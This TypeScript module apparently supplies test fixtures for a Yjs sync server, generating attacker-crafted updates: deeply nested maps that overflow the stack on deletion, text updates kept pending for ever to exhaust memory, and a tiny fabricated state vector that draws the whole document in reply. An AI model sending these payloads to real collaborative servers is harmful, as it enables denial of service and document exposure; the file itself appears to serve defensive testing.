// Updates an attacker would send: well-formed, and each harmful in its own way.
import * as encoding from 'lib0/encoding'
import * as Y from 'yjs'

/** The client id the nested-map updates are written by. */
export const nestingClient = 4242

/**
 * `depth` Y.Maps nested within each other under the root map `root` (as one update, by
 * `nestingClient`): deleting the outer one overflows the stack of Yjs past a few thousand.
 */
export function nestedMaps(depth: number, root = 'poison'): Uint8Array {
  const doc = new Y.Doc()
  doc.clientID = nestingClient
  doc.transact(() => {
    let map = doc.getMap(root)
    for (let level = 0; level < depth; level++) {
      const inner = new Y.Map()
      map.set('inner', inner)
      map = inner
    }
  })
  const update = Y.encodeStateAsUpdate(doc)
  doc.destroy()
  return update
}

/** An update holding only a delete set: clocks 0 to `length` of `client`. */
export function deletion(client: number, length: number): Uint8Array {
  const encoder = encoding.createEncoder()
  encoding.writeVarUint(encoder, 0)
  encoding.writeVarUint(encoder, 1)
  encoding.writeVarUint(encoder, client)
  encoding.writeVarUint(encoder, 1)
  encoding.writeVarUint(encoder, 0)
  encoding.writeVarUint(encoder, length)
  return encoding.toUint8Array(encoder)
}

/**
 * An update of `bytes` of text typed after a character that never existed: Yjs keeps it pending
 * for ever. Each call uses its own client id (`client`).
 */
export function pendingText(client: number, bytes: number): Uint8Array {
  const encoder = encoding.createEncoder()
  encoding.writeVarUint(encoder, 1) // one client
  encoding.writeVarUint(encoder, 1) // one struct
  encoding.writeVarUint(encoder, client)
  encoding.writeVarUint(encoder, 0) // first clock
  encoding.writeUint8(encoder, 0x80 | 4) // has an origin; string content
  encoding.writeVarUint(encoder, client + 1) // origin: a client that never wrote
  encoding.writeVarUint(encoder, 1_000)
  encoding.writeVarString(encoder, 'x'.repeat(bytes))
  encoding.writeVarUint(encoder, 0) // empty delete set
  return encoding.toUint8Array(encoder)
}

/**
 * A state vector of `pairs` clients that no document holds (their ids follow from `seed`), with
 * clocks: the answer to its sync step 1 is the whole document. Client ids and all but the last
 * clock are five-byte varints, so with 8 pairs the sync step 1 frame is 80 bytes.
 */
export function madeUpStateVector(seed: number, pairs = 8): Uint8Array {
  const encoder = encoding.createEncoder()
  encoding.writeVarUint(encoder, pairs)
  for (let i = 0; i < pairs; i++) {
    encoding.writeVarUint(encoder, 2 ** 28 + seed * pairs + i)
    encoding.writeVarUint(encoder, i < pairs - 1 ? 2 ** 28 + i : 1 + i)
  }
  return encoding.toUint8Array(encoder)
}
